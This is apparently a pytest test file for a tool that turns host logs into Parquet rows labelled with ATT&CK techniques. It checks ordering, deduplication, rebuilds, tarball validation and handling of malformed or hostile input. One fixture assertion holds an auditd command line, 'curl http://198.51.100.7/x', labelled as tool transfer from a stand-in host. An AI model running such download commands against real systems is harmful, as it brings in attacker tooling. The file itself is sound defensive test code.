"""Log rows on disk: what the truth says of them, and only what is new is made."""

from __future__ import annotations

import os
from typing import Any

import msgspec
import pyarrow.parquet as pq
import pytest

from rlstir_core.errors import UpstreamMissing
from rlstir_core.hostlogs import store as store_module
from rlstir_core.hostlogs.attack.truth import read_truth
from rlstir_core.hostlogs.store import build_log_events, host_counts, log_changes, read_counts
from rlstir_core.hostlogs.table import SCHEMA

T0 = 1_714_564_800 * 10**9


def rows(logs: Any, episode: str = "ep-1") -> list[dict[str, Any]]:
    return list(pq.ParquetFile(logs.layout.log_events("web1") / f"{episode}.parquet").read().to_pylist())


def test_every_log_of_an_episode_becomes_rows_in_the_order_of_time(logs: Any) -> None:
    made = logs.build()
    assert (made.made, made.rows) == (1, {"auditd": 1, "auth": 3, "journald": 1, "sysmon": 1})
    assert made.unparsed == {"auth": 1} and made.duplicates == 1
    found = rows(logs)
    assert [row["channel"] for row in found] == ["auditd", "auth", "auth", "auth", "journald", "sysmon"]
    assert [row["ts_ns"] - T0 for row in found] == [10**9, 2 * 10**9, 2 * 10**9, 2 * 10**9, 3 * 10**9, 4 * 10**9]
    assert [(row["member"], row["seq"]) for row in found[1:4]] == [("logs/auth.log", k) for k in range(3)]
    audit, sysmon = found[0], found[-1]
    assert (audit["pid"], audit["ppid"], audit["exe"]) == (901, 900, "/usr/bin/curl")
    assert audit["cmdline"] == "curl http://198.51.100.7/x" and sysmon["user"] == "LAB\\anna"
    assert {row["host"] for row in found} == {"web1"} and {row["episode_id"] for row in found} == {"ep-1"}
    assert [row["duplicate"] for row in found] == [False, False, True, False, False, False]
    assert [row["parsed"] for row in found] == [True, True, True, False, True, True]


def test_the_truth_labels_rows_by_time_pid_and_channel(logs: Any) -> None:
    logs.build()
    found = rows(logs)
    assert found[0]["label_ttp"] == ["T1105", "T1685"]
    assert [row["label_ttp"] for row in found[1:]] == [["T1685"]] * 5
    assert [row["tamper_tag"] for row in found] == [None, "drop-channel", "drop-channel", "drop-channel", None, None]
    counts = read_counts(logs.layout.log_events("web1") / "ep-1.parquet")
    assert counts.bad_truth == 1 and counts.aliases == {"web1": ("WEB1.lab.local",)}
    assert counts.techniques == {"T1105": 1, "T1685": 6} and counts.tactics == ("impact",)


def test_where_the_first_rows_stood_that_could_not_be_parsed_is_kept(logs: Any) -> None:
    logs.build()
    (counts,) = host_counts(logs.layout, "web1").values()
    assert counts.unparsed == {"auth": 1}
    assert counts.unparsed_at == ("logs/auth.log line 3: no syslog header",)
    (logs.layout.log_events("web1") / "_counts.json").write_text("{")
    assert host_counts(logs.layout, "web1")["ep-1"].rows == counts.rows


def test_an_episode_without_logs_has_no_file_and_is_never_read_again(
    logs: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    logs.build()
    assert list(logs.files()) == ["ep-1.parquet"]
    monkeypatch.setattr(store_module, "_parse", None)
    assert logs.build().made == 0 and not log_changes(logs.layout, "web1")


def test_new_changed_and_deleted_episodes_and_only_they_are_worked_on(logs: Any) -> None:
    logs.build()
    before = logs.files()
    logs.add("ep-2", auth_log="May  1 12:00:01 web1 cron[1]: x\n")
    assert (made := logs.build()).made == 1 and made.unchanged == 1
    logs.add("ep-2", auth_log="May  1 12:00:01 web1 cron[1]: y\n")
    assert logs.build().made == 1
    assert [row["message"] for row in rows(logs, "ep-2")] == ["y"]
    logs.drop("ep-2")
    assert (made := logs.build()).dropped == 1 and made.made == 0
    assert logs.files() == before and made.rows["auth"] == 3


def test_the_bytes_depend_on_the_episode_alone(logs: Any) -> None:
    logs.build()
    before = logs.files()
    for path in logs.layout.log_events("web1").iterdir():
        path.unlink()
    assert logs.build().made == 1
    assert logs.files() == before


def test_templates_are_counted_and_their_texts_kept(logs: Any) -> None:
    made = logs.build()
    texts = [text for _, _, text in made.top_templates]
    assert any(text.startswith("Failed password for invalid user") and text.count("<*>") >= 2 for text in texts)
    assert sum(n for _, n, _ in made.top_templates) == 6


def test_a_tarball_that_changed_since_it_was_validated_is_refused(logs: Any) -> None:
    logs.validate()
    path = logs.store / logs.records["ep-1"]["path"]
    data = path.read_bytes()
    os.truncate(path, len(data) - 1)
    with pytest.raises(UpstreamMissing, match=r"not the tarball that was validated; make it .*rlstir materialize"):
        build_log_events(logs.store, logs.layout, "web1")


def test_a_host_that_was_not_validated_is_refused_with_the_command(logs: Any) -> None:
    with pytest.raises(UpstreamMissing, match="key:validation"):
        build_log_events(logs.store, logs.layout, "web1")


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"{}",
        b"[",
        b"null",
        b"\xff",
        b"[" * 100_000,
        b'[{"technique": 5}]',
        b'[{"technique":"","tactic":"gardening","t_start_wall_ns":1,"t_end_wall_ns":2}]',
        b'[{"technique":"T1","t_start_wall_ns":1e999}]',
    ],
)
def test_a_truth_that_breaks_its_form_is_dropped_and_counted(raw: bytes) -> None:
    truth = read_truth(raw, raw)
    assert truth.techniques == truth.spans == () and truth.n_bad == 2


def test_hostile_text_in_a_truth_reaches_no_column() -> None:
    spans = [{"t_start_wall_ns": 1, "t_end_wall_ns": 2, "channel": "auth", "kind": "<script>"}]
    assert read_truth(None, msgspec.json.encode(spans)).n_bad == 1


def test_hostile_logs_are_rows_and_counts_and_no_crash(logs: Any) -> None:
    long = b"x" * (10 << 20)
    junk = bytes(range(256)) * 40 + b"\n" + long + b"\n\xff\xfe\n"
    logs.add("bad", audit_log=junk, auth_log=junk, journal_jsonl=junk, sysmon_jsonl=junk, a_evtx=b"ElfFile\0" + junk)
    made = logs.build()
    assert made.made == 2
    found = rows(logs, "bad")
    assert found and not any(row["parsed"] for row in found)
    assert {row["channel"] for row in found} >= {"auditd", "auth", "journald", "evtx"}
    assert all(len(row["message"]) < 20_000 for row in found)


def test_the_columns_are_those_of_the_schema(logs: Any) -> None:
    logs.build()
    assert pq.read_schema(logs.layout.log_events("web1") / "ep-1.parquet").names == SCHEMA.names
